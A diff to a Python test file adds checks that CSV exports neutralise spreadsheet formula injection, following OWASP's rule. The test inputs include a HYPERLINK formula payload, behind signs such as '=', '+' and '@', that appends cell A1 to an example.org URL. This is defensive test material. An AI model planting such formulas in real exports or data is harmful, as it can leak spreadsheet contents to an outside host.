@@ -1,6 +1,7 @@
 import csv
 import io
 from dataclasses import replace
+from fractions import Fraction
 from pathlib import Path
 
 import pyarrow as pa
@@ -8,9 +9,11 @@ import pyarrow.parquet as pq
 import pytest
 
 from playbill.core.analysis import Analysis
+from playbill.core.metadata import FrameMetadata
+from playbill.core.people import Person
 from playbill.exports.formats import export_chunks
 from playbill.exports.parquet import ROW_GROUP
-from tests.support.analyses import ADA
+from tests.support.analyses import ADA, analysis_of, person
 from tests.support.exported import (
     ODD_NAMES,
     awkward,
@@ -20,6 +23,7 @@ from tests.support.exported import (
     ntsc_clip,
     picture,
     plain,
+    seen,
     times_of,
     varying_clip,
 )
@@ -93,14 +97,30 @@ def test_both_tables_say_the_same(make: object, kind: str) -> None:
 
     assert len(rows) == len(table)
     for written, typed in zip(rows, table, strict=True):
-        assert written == {key: "" if v is None else str(v) for key, v in typed.items()}
+        plain_text = {key: value.removeprefix("'") for key, value in written.items()}
+        assert plain_text == {key: "" if v is None else str(v) for key, v in typed.items()}
 
 
 def test_names_come_back_letter_by_letter() -> None:
     names = [row["person_name"] for row in csv_rows(awkward(), "csv")]
     typed = parquet(awkward(), "parquet").column("person_name").to_pylist()
 
-    assert names == typed == list(ODD_NAMES)
+    assert typed == list(ODD_NAMES)
+    assert [name.replace("'=", "=") for name in names] == list(ODD_NAMES)
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
+@pytest.mark.parametrize("kind", ["", "-objects"])
+def test_no_name_is_computed_by_a_spreadsheet(kind: str, sign: str) -> None:
+    """OWASP's rule against CSV injection."""
+    evil = f'{sign}HYPERLINK("https://example.org/?"&A1,"Ada")'
+    made = analysis_of(
+        FrameMetadata(0, Fraction(0), (person(Person("x", evil)),)),
+        appearances=(seen(Person("x", evil), Fraction(0), Fraction(1)),),
+    )
+    (row,) = csv_rows(replace(made, media=replace(made.media, name=evil)), f"csv{kind}")
+
+    assert row["person_name"] == row["media_name"] == f"'{evil}"
 
 
 def test_a_medium_without_appearances_is_a_head_without_rows() -> None:
